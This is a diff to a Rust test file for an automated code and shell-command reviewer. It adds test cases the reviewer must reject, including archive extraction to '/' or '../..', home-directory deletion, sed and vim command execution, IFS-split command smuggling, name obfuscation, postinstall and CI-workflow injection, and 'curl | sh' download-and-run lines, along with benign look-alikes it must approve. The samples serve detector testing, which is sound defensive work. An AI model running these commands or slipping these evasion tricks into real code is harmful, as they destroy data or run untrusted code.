@@ -1417,6 +1417,24 @@ fn judge_source(lang: crate::Lang, source: &str) -> ReviewAnswer {
     "links-outside",
     2
 )]
+#[case::extract_to_root(
+    "import tarfile\nwith tarfile.open(\"a.tar\") as t:\n    t.extractall(\"/\")\n",
+    Verdict::Major,
+    "extracts-outside",
+    3
+)]
+#[case::extract_to_home_by_keyword(
+    "import zipfile\nzipfile.ZipFile(\"a.zip\").extractall(path=\"~/.config\")\n",
+    Verdict::Major,
+    "extracts-outside",
+    2
+)]
+#[case::unpack_above(
+    "import shutil\nshutil.unpack_archive(\"a.tgz\", \"../..\")\n",
+    Verdict::Major,
+    "extracts-outside",
+    2
+)]
 fn literals_show_what_a_call_does(
     #[case] source: &str,
     #[case] verdict: Verdict,
@@ -1531,7 +1549,12 @@ fn bidirectional_controls_reject() {
     "pipe-to-interpreter",
     1
 )]
-#[case::python_c("python3 -c \"import os\"\n", Verdict::Rejected, "run-code-string", 1)]
+#[case::python_c(
+    "python3 -c \"import os; os.system(input())\"\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
 #[case::rm_home("rm -rf \"$HOME\"\n", Verdict::Rejected, "deletes-root-or-home", 1)]
 #[case::rm_root_star("rm -fr /*\n", Verdict::Rejected, "deletes-root-or-home", 1)]
 #[case::crontab(
@@ -1648,6 +1671,43 @@ fn bidirectional_controls_reject() {
     "names-loader-variable",
     1
 )]
+#[case::sed_e_command("sed -n '1e id' notes.txt\n", Verdict::Rejected, "run-code-string", 1)]
+#[case::sed_s_e_flag(
+    "sed -e 's/.*/id/e' notes.txt\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::vim_shell_command(
+    "vim -es -c ':!id' -c ':q' notes.txt\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::vim_python(
+    "nvim --headless +'py3 import os; os.system(\"id\")' +q\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::vim_sources_a_script(
+    "vim -S /tmp/x.vim notes.txt\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::ifs_split_command(
+    "IFS=,\ncmd=\"sh,-c,id\"\n$cmd\n",
+    Verdict::Rejected,
+    "run-split-command",
+    3
+)]
+#[case::ifs_split_command_braced(
+    "export IFS=:\nc='bash:-c:id'\n${c}\n",
+    Verdict::Rejected,
+    "run-split-command",
+    3
+)]
 fn bash_commands_read_as_they_run(
     #[case] source: &str,
     #[case] verdict: Verdict,
@@ -1675,6 +1735,14 @@ fn assert_finding(answer: &ReviewAnswer, verdict: Verdict, id: &str, line: usize
 #[case::plain_http("curl -fsS https://example.org/a.json -o a.json\n")]
 #[case::scripts_of_the_project("./run_tests.sh --fast\nmake -C src\nls | sort | uniq -c\n")]
 #[case::reads_home("ls \"$HOME\"\ncd ~\n")]
+#[case::sed_edits_files(
+    "sed -i 's/old/new/g' edit.txt\nsed -n '/^e/p' errors.log\nsed -e 's/e/E/' -e '1d' a.txt\n"
+)]
+#[case::vim_formats("vim -es -c 'set ff=unix' -c 'wq' notes.txt\n")]
+#[case::ifs_for_read(
+    "while IFS= read -r line; do echo \"$line\"; done < list.txt\n$CC -o app main.c\n"
+)]
+#[case::ifs_for_a_loop("OLD=$IFS\nIFS=:\nfor d in $PATH; do ls \"$d\"; done\nIFS=$OLD\n")]
 #[case::start_up_file_named_not_written(
     "if [ -e ~/.bash_profile ]; then profile=~/.bash_profile; fi\necho \"add it to ~/.bashrc\"\n"
 )]
@@ -1759,4 +1827,165 @@ fn precompiled_rules_match_as_their_regexes_do() {
         matched > 1000 && answered > 100_000,
         "{matched} of {answered}"
     );
+}
+
+/// Families the blind set held-aside-3 showed approved (2026-11-27), each
+/// in spellings of this test's own.
+#[rstest]
+#[case::js_global_in_array_pieces(
+    crate::Lang::JavaScript,
+    "const p = globalThis[[\"pro\", \"cess\"].join(\"\")];\nconsole.log(p.pid);\n",
+    Verdict::Rejected,
+    "name-in-pieces",
+    1
+)]
+#[case::js_fetch_in_pieces(
+    crate::Lang::JavaScript,
+    "const get = Reflect.get(globalThis, \"fe\" + \"tch\");\nget(\"https://example.org\");\n",
+    Verdict::Rejected,
+    "name-in-pieces",
+    1
+)]
+#[case::js_function_constructor_as_value(
+    crate::Lang::JavaScript,
+    "function area(r) { return r * r; }\nconst Make = area.constructor;\nmodule.exports = Make(\"a\", body);\n",
+    Verdict::Major,
+    "js-constructor-value",
+    2
+)]
+#[case::js_lifecycle_script(
+    crate::Lang::JavaScript,
+    "const pkg = JSON.parse(fs.readFileSync(\"package.json\", \"utf8\"));\npkg.scripts.postinstall = \"node setup.js\";\nfs.writeFileSync(\"package.json\", JSON.stringify(pkg));\n",
+    Verdict::Major,
+    "js-lifecycle-script",
+    2
+)]
+#[case::js_lifecycle_script_computed_key(
+    crate::Lang::JavaScript,
+    "pkg.scripts[hook] = line;\n",
+    Verdict::Major,
+    "js-lifecycle-script",
+    1
+)]
+#[case::js_workflow_path_joined(
+    crate::Lang::JavaScript,
+    "const d = path.join(\".github\", \"workflows\");\nfs.writeFileSync(path.join(d, \"x.yml\"), y);\n",
+    Verdict::Major,
+    "changes-ci-pipeline",
+    1
+)]
+#[case::py_ci_env_file(
+    crate::Lang::Python,
+    "import os\nwith open(os.environ[\"GITHUB_ENV\"], \"a\") as f:\n    f.write(\"X=1\\n\")\n",
+    Verdict::Major,
+    "names-loader-variable",
+    2
+)]
+#[case::py_timeit_text_in_a_variable(
+    crate::Lang::Python,
+    "import timeit\ncode = load()\ntimeit.timeit(code, number=1, globals={\"a\": 1})\n",
+    Verdict::Rejected,
+    "py-code-string",
+    3
+)]
+#[case::sh_letters_array(
+    crate::Lang::Bash,
+    "p=(c u r l)\nprintf -v t '%s' \"${p[@]}\"\n\"$t\" https://example.org\n",
+    Verdict::Rejected,
+    "name-in-pieces",
+    1
+)]
+#[case::sh_clipboard(
+    crate::Lang::Bash,
+    "cur=$(xclip -o -selection clipboard)\necho \"$cur\"\n",
+    Verdict::Major,
+    "run-clipboard-tool",
+    1
+)]
+#[case::sh_inline_code_that_runs_more(
+    crate::Lang::Bash,
+    "node -e \"require('child_process').execSync('id')\"\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::sh_inline_code_too_long_to_judge_at_a_glance(
+    crate::Lang::Bash,
+    "python3 -c 'import json; data = [1, 2, 3]; total = sum(data); mean = total / len(data); print(json.dumps({\"total\": total, \"mean\": mean, \"n\": len(data), \"max\": max(data), \"min\": min(data)}))'\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::sh_inline_code_from_a_variable(
+    crate::Lang::Bash,
+    "python3 -c \"$CODE\"\n",
+    Verdict::Rejected,
+    "run-code-string",
+    1
+)]
+#[case::js_download_and_run_joined(
+    crate::Lang::JavaScript,
+    "const hook = \"hooks/x\";\nconst line = [\"curl\", \"-s\", \"https://example.org/i.sh\", \"|\", \"sh\"].join(\" \");\nfs.appendFileSync(hook, line);\n",
+    Verdict::Major,
+    "holds-download-and-run",
+    2
+)]
+#[case::py_download_and_run_literal(
+    crate::Lang::Python,
+    "with open(\"run.sh\", \"w\") as f:\n    f.write(\"wget -qO- https://example.org/i.sh | bash\\n\")\n",
+    Verdict::Major,
+    "holds-download-and-run",
+    2
+)]
+fn blind_set_families_are_refused(
+    #[case] lang: crate::Lang,
+    #[case] source: &str,
+    #[case] verdict: Verdict,
+    #[case] id: &str,
+    #[case] line: usize,
+) {
+    assert_finding(&judge_source(lang, source), verdict, id, line);
+}
+
+/// Their look-alikes in ordinary code.
+#[rstest]
+#[case::js_join_of_words(
+    crate::Lang::JavaScript,
+    "const msg = [\"hello\", \"world\"].join(\" \");\nconsole.log(msg);\n"
+)]
+#[case::js_constructor_compared(
+    crate::Lang::JavaScript,
+    "if (value.constructor === Object) { out = value.constructor.name; }\nconst copy = new this.constructor(this.items);\n"
+)]
+#[case::js_reads_scripts(
+    crate::Lang::JavaScript,
+    "const pkg = require(\"./package.json\");\nif (pkg.scripts.test === undefined) { console.log(\"no tests\"); }\n"
+)]
+#[case::py_timeit_of_a_function(
+    crate::Lang::Python,
+    "import timeit\n\ndef work():\n    return sum(range(100))\n\nprint(timeit.timeit(work, number=100))\n"
+)]
+#[case::sh_inline_code_printing(
+    crate::Lang::Bash,
+    "name=$(node -p \"require('./package.json').name\")\nv=$(python3 -c 'import sys; print(sys.version_info[0])')\necho \"$name $v\"\n"
+)]
+#[case::sh_grades_array(
+    crate::Lang::Bash,
+    "grades=(A B C D F)\nfor g in \"${grades[@]}\"; do echo \"$g\"; done\n"
+)]
+#[case::js_workflow_link_read(
+    crate::Lang::JavaScript,
+    "const url = new URL(`${entity}/blob/HEAD/.github/workflows/${file}`, host);\nconsole.log(url.toString());\n"
+)]
+#[case::js_error_constructor(
+    crate::Lang::JavaScript,
+    "class E extends Error {\n  constructor(m) { super(m); Error.captureStackTrace(this, this.constructor); }\n}\nconst Command = instance.constructor;\n"
+)]
+#[case::py_pipeline_without_a_download(
+    crate::Lang::Python,
+    "print(\"usage: cat data.csv | python3 stats.py\")\nprint(\"see https://example.org | docs\")\n"
+)]
+fn blind_set_look_alikes_are_approved(#[case] lang: crate::Lang, #[case] source: &str) {
+    let answer = judge_source(lang, source);
+    assert_eq!(answer.verdict, Verdict::Approve, "{answer:?}");
 }
